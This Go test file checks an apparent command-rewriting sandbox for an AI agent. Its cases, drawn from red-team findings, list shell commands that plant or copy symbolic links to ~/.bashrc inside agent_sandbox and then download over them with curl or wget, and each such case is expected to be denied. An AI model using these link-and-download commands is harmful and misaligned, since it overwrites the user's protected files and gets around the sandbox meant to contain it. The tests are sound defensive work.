package rewrite

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// TestDownloadThroughSandboxLink (red team 14 SL1): a symbolic link in
// the sandbox, on disk or made earlier in the command, that leads to a
// protected file turns a download the rewrite moves there (curl -o, curl
// -O and wget's URL-derived names, --output-dir, -P) into a write of that
// file: denied. Downloads into an empty sandbox, and links to ordinary
// places, pass.
func TestDownloadThroughSandboxLink(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/README.md":  "hi\n",
		"home/.bashrc":    "# rc\n",
		"proj/data/x.txt": "x\n",
	})
	sb := filepath.Join(filepath.Dir(cfg.Project), "proj", "agent_sandbox")
	if err := os.MkdirAll(sb, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(cfg.Home, ".bashrc"), filepath.Join(sb, "evil.sh")); err != nil {
		t.Fatal(err)
	}
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		// A link on disk.
		{"curl -s -o evil.sh https://example.com/evil.sh", "deny"},
		{"curl -s -O https://example.com/evil.sh", "deny"},
		{"curl -s --remote-name https://example.com/d/evil.sh?x=1", "deny"},
		{"wget -q https://example.com/evil.sh", "deny"},
		{"wget -q -N https://example.com/evil.sh", "deny"},
		{"curl -s -o agent_sandbox/evil.sh https://example.com/x", "deny"},
		// A link this command makes first.
		{"ln -s ~/.bashrc agent_sandbox/e2.sh; curl -s https://example.com/e2.sh -o e2.sh", "deny"},
		{"ln -s ~/.bashrc agent_sandbox/e2.sh; curl -s -O https://example.com/e2.sh", "deny"},
		{"ln -s ~/.bashrc agent_sandbox/e2.sh; curl -s -o agent_sandbox/e2.sh https://example.com/x", "deny"},
		{"ln -s ~/.bashrc agent_sandbox/e; wget -q https://example.com/e", "deny"},
		// Look-alikes.
		{"curl -s -O https://example.com/other.sh", "rewrite"},
		{"wget -q https://example.com/other.sh", "rewrite"},
		{"curl -s -o agent_sandbox/other.sh https://example.com/x", "allow"},
		{"ln -s ../data agent_sandbox/data; curl -O https://example.com/a.tgz", "rewrite"},
		{"curl -s -O https://example.com/", "rewrite"},
	})
}

// TestCurlFollowsOutputLink: real curl writes through a symbolic link
// that stands where -O's URL-derived name puts its file in --output-dir:
// the link's target is overwritten (what TestDownloadThroughSandboxLink
// denies).
func TestCurlFollowsOutputLink(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl not installed")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte("downloaded\n"))
	}))
	defer srv.Close()
	dir := t.TempDir()
	canary := filepath.Join(dir, "canary")
	if err := os.WriteFile(canary, []byte("original\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	sb := filepath.Join(dir, "sb")
	if err := os.MkdirAll(sb, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(canary, filepath.Join(sb, "evil.sh")); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(curl, "-s", "--noproxy", "*", "--output-dir", sb, "-O", srv.URL+"/evil.sh")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	got, err := os.ReadFile(canary)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "downloaded\n" {
		t.Errorf("curl -O did not write through the link: canary holds %q", got)
	}
}

// TestDownloadThroughCopiedLink (red team 15 RG5): a copy that keeps a
// symbolic link a link (cp -P/-d/-a, cp -r, mv, rsync -l/-a) of a link on
// disk or made earlier in the command puts that link in the sandbox, and
// a download the rewrite moves there writes its target: denied. Copies
// that follow links (cp, cp -L, rsync without -l) and copies of ordinary
// files pass. Real cp and mv (where present) show that the copy is a link
// with the source's target.
func TestDownloadThroughCopiedLink(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/README.md": "hi\n",
		"home/.bashrc":   "# rc\n",
		"tmp/plain.sh":   "echo\n",
	})
	tmp := filepath.Join(filepath.Dir(cfg.Project), "tmp")
	if err := os.Symlink(filepath.Join(cfg.Home, ".bashrc"), filepath.Join(tmp, "l")); err != nil {
		t.Fatal(err)
	}
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"mkdir -p agent_sandbox && cp -P ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
		{"mkdir -p agent_sandbox && cp -a ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
		{"mkdir -p agent_sandbox && cp -d ../tmp/l agent_sandbox/; curl -s https://example.com/x -o l", "deny"},
		{"mkdir -p agent_sandbox && rsync -l ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
		{"mkdir -p agent_sandbox && ln -s ~/.bashrc ../tmp/m && cp -P ../tmp/m agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
		{"mkdir -p agent_sandbox && ln -s ~/.bashrc ../tmp/m && mv ../tmp/m agent_sandbox/evil.sh; wget -q https://example.com/evil.sh", "deny"},
		// The last of -L and -a wins, as GNU cp reads them.
		{"mkdir -p agent_sandbox && cp -L -a ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "deny"},
		// Look-alikes: copies that follow the link, copies of files.
		{"mkdir -p agent_sandbox && cp ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "rewrite"},
		{"mkdir -p agent_sandbox && cp -a -L ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "rewrite"},
		{"mkdir -p agent_sandbox && cp -a ../tmp/plain.sh agent_sandbox/evil.sh; curl -sO https://example.com/evil.sh", "rewrite"},
		{"mkdir -p agent_sandbox && cp -P ../tmp/l agent_sandbox/evil.sh; curl -sO https://example.com/other.sh", "rewrite"},
	})
	for _, tc := range [][]string{{"cp", "-P"}, {"cp", "-a"}, {"cp", "-L", "-a"}, {"mv"}} {
		if _, err := exec.LookPath(tc[0]); err != nil {
			continue
		}
		dir := t.TempDir()
		canary := filepath.Join(dir, "canary")
		if err := os.WriteFile(canary, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(canary, filepath.Join(dir, "l")); err != nil {
			t.Fatal(err)
		}
		args := append(append([]string{}, tc[1:]...), filepath.Join(dir, "l"), filepath.Join(dir, "copy"))
		if out, err := exec.Command(tc[0], args...).CombinedOutput(); err != nil {
			t.Fatalf("%s %v: %v\n%s", tc[0], args, err, out)
		}
		if got, err := os.Readlink(filepath.Join(dir, "copy")); err != nil || got != canary {
			t.Errorf("%s %v: the copy is not a link to the canary (%q, %v)", tc[0], tc[1:], got, err)
		}
	}
	// cp -a -L follows the link: the copy is a file.
	if _, err := exec.LookPath("cp"); err == nil {
		dir := t.TempDir()
		canary := filepath.Join(dir, "canary")
		if err := os.WriteFile(canary, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(canary, filepath.Join(dir, "l")); err != nil {
			t.Fatal(err)
		}
		if out, err := exec.Command("cp", "-a", "-L", filepath.Join(dir, "l"), filepath.Join(dir, "copy")).CombinedOutput(); err != nil {
			t.Fatalf("cp -a -L: %v\n%s", err, out)
		}
		if fi, err := os.Lstat(filepath.Join(dir, "copy")); err != nil || fi.Mode()&os.ModeSymlink != 0 {
			t.Errorf("cp -a -L: the copy is a link (%v)", err)
		}
	}
}
